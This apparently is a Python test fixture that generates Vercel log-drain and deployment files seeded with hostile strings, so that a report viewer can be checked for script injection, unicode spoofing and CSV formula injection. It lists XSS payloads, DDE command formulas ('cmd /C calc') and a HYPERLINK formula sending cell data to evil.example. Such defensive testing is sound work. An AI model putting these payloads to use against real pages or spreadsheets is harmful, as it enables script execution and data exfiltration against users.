"""A corpus of hostile strings and writers that put them into every field of real Vercel inputs.

Log content is written by whoever sends requests.  Every payload that could run script sets the
canary ``window.__pwned`` (or opens a dialog), so a browser test only has to check that the canary
stays undefined and that no dialog opened.  The formula payloads target spreadsheets opening a
CSV export; the unicode payloads try to make a report *look* different from the data.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

#: Name of the global every script payload sets.
CANARY = "__pwned"

SCRIPT_PAYLOADS: tuple[str, ...] = (
    "<script>window.__pwned=1</script>",
    '"><script>window.__pwned=1</script>',
    "'><script>window.__pwned=1</script>",
    "</script><script>window.__pwned=1</script>",
    "</textarea></style></title><script>window.__pwned=1</script>",
    '<img src=x onerror="window.__pwned=1">',
    "<img src=x onerror=alert(1)>",
    '<svg onload="window.__pwned=1"></svg>',
    "<svg><script>window.__pwned=1</script></svg>",
    '<svg><animate onbegin="window.__pwned=1" attributeName=x dur=1s>',
    "javascript:window.__pwned=1",
    '<a href="javascript:window.__pwned=1">click me</a>',
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    "<body onload=window.__pwned=1>",
    "<details open ontoggle=window.__pwned=1>",
    '<input autofocus onfocus="window.__pwned=1">',
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>",
    "<!--<img src=--><img src=x onerror=window.__pwned=1//-->",
    '"});window.__pwned=1;//',
    "';window.__pwned=1;//",
    "{{constructor.constructor('window.__pwned=1')()}}",
    "${window.__pwned=1}",
    "[click](javascript:window.__pwned=1)",
    '![x](x" onerror="window.__pwned=1)',
    "<object data=\"data:text/html,<script>parent.__pwned=1</script>\"></object>",
    "$$\\unicode{<img src=x onerror=window.__pwned=1>}$$",
    "<scr<script>ipt>window.__pwned=1</scr</script>ipt>",
    "%3Cscript%3Ewindow.__pwned=1%3C/script%3E",
    "&lt;script&gt;window.__pwned=1&lt;/script&gt;",
    "\\u003cscript\\u003ewindow.__pwned=1\\u003c/script\\u003e",
)

UNICODE_PAYLOADS: tuple[str, ...] = (
    "invoice\u202egnp.exe",  # right-to-left override
    "ad\u200bmin\u200d\ufeff",  # zero-width space / joiner, BOM
    "\u0440\u0430ypal.com",  # Cyrillic homoglyphs of "pa"
    "\u2066<script>window.__pwned=1</script>\u2069",  # isolates around markup
    "\uff1cscript\uff1ewindow.__pwned=1\uff1c/script\uff1e",  # full-width brackets
)

FORMULA_PAYLOADS: tuple[str, ...] = (
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)

HOSTILE: tuple[str, ...] = SCRIPT_PAYLOADS + UNICODE_PAYLOADS + FORMULA_PAYLOADS

#: Top-level drain fields and ``proxy`` fields that carry text (all of them get every payload).
DRAIN_FIELDS = ("message", "source", "level", "type", "host", "path", "entrypoint", "requestId",
                "deploymentId", "projectId", "projectName", "environment", "branch",
                "executionRegion", "ja3Digest", "ja4Digest", "traceId", "spanId")
PROXY_FIELDS = ("method", "host", "path", "userAgent", "referer", "clientIp", "region",
                "vercelCache", "wafAction", "pathType", "cacheId", "vercelId")

#: Personal data the redaction tests look for in redacted reports.
EMAILS = ("dana@acme.io", "ops.admin@example.com", "billing+eu@acme.io")
IPS = ("192.0.2.66", "192.0.2.99", "198.51.100.23", "198.51.100.7")

T0_MS = 1_754_300_000_000  # 2025-08-04T09:33:20Z
DEPLOYMENT = "dpl_7Hq2kLmN3pQrStUvWxYz0123"


FIREFOX = "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0"


def _record(i: int, t_ms: int, *, status: int = 200, level: str = "info",
            message: str | None = "ok", ip: str = "198.51.100.23",
            path: str = "/api/orders/991", ua: str = FIREFOX) -> dict[str, Any]:
    rec: dict[str, Any] = {
        "id": f"{t_ms}{i:015d}", "deploymentId": DEPLOYMENT, "source": "lambda",
        "host": "shop-web-k3j9x2-acme.vercel.app", "timestamp": t_ms,
        "projectId": "prj_Ab12Cd34Ef56Gh78Ij90Kl12", "projectName": "shop-web", "level": level,
        "type": "stderr" if level == "error" else "stdout", "entrypoint": "api/orders.js",
        "path": "/api/orders/[orderId]", "statusCode": status,
        "requestId": f"fra1::iad1::q7w8e-{t_ms}-{i:012x}", "environment": "production",
        "branch": "main", "executionRegion": "iad1",
        "proxy": {"timestamp": t_ms - 5, "method": "GET", "host": "shop.example.com",
                  "path": path, "userAgent": [ua], "region": "fra1",
                  "referer": "https://shop.example.com/cart", "statusCode": status,
                  "clientIp": ip, "scheme": "https", "responseByteSize": 87,
                  "pathType": "func", "vercelCache": "MISS", "lambdaRegion": "iad1"},
    }
    if message is not None:
        rec["message"] = message
    return rec


def hostile_records() -> list[dict[str, Any]]:
    """Ordinary traffic, an error burst, attackers — and every payload in every field."""
    out: list[dict[str, Any]] = []
    i = 0
    # two hours of ordinary traffic with an error burst in the middle: patterns, onset, plots
    for k in range(600):
        t = T0_MS + k * 12_000
        burst = 250 <= k < 330
        payload = HOSTILE[k % len(HOSTILE)]
        out.append(_record(i, t, status=500 if burst else 200,
                           level="error" if burst else "info",
                           message=f"TypeError: {payload} at handler (api/orders.js:{k % 7})"
                           if burst else f"loading order {k}",
                           ip=f"198.51.100.{k % 50}"))
        i += 1
    # a scanner and a brute-force client whose paths and agents carry payloads
    for k, payload in enumerate(HOSTILE):
        out.append(_record(i, T0_MS + 1_800_000 + k * 500, status=404, ip="192.0.2.66",
                           path=f"/.env?x={payload}",
                           ua=f"sqlmap/1.7 {payload}"))
        i += 1
        out.append(_record(i, T0_MS + 3_600_000 + k * 400, status=401, ip="192.0.2.99",
                           path="/api/login", ua=f"python-requests/2.31 {payload}",
                           message=f"login failed for {EMAILS[k % len(EMAILS)]}: bad password"))
        i += 1
    # every payload in every field
    for n, payload in enumerate(HOSTILE):
        for field in DRAIN_FIELDS:
            rec = _record(i, T0_MS + 60_000 * (n % 100) + 7, level="error", status=500,
                          message=f"failed: {payload}")
            rec[field] = payload
            out.append(rec)
            i += 1
        for field in PROXY_FIELDS:
            rec = _record(i, T0_MS + 60_000 * (n % 100) + 9, level="warning", status=403)
            rec["proxy"][field] = [payload] if field == "userAgent" else payload
            out.append(rec)
            i += 1
    return out


def write_hostile_drain(path: Path) -> Path:
    """NDJSON drain file (current schema) with :data:`HOSTILE` in every field."""
    path.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in hostile_records()),
                    encoding="utf-8")
    return path


def write_hostile_deployments(path: Path) -> Path:
    """``/v6/deployments`` JSON whose commit messages, authors, refs and URLs are payloads."""
    deps = []
    for n, payload in enumerate(HOSTILE[:12]):
        created = T0_MS - 3_600_000 + n * 600_000
        deps.append({
            "uid": f"dpl_{n:024d}" if n else DEPLOYMENT, "name": "shop-web",
            "url": f"{payload}.vercel.app", "created": created, "createdAt": created,
            "buildingAt": created + 2000, "ready": created + 60_000, "state": "READY",
            "readyState": "READY", "target": "production", "source": "git",
            "creator": {"uid": "u_1", "username": payload},
            "meta": {"githubCommitSha": f"{n:040x}", "githubCommitRef": payload,
                     "githubCommitMessage": f"fix: {payload}",
                     "githubCommitAuthorName": payload},
        })
    path.write_text(json.dumps({"deployments": deps, "pagination": {"count": len(deps)}},
                               ensure_ascii=False), encoding="utf-8")
    return path
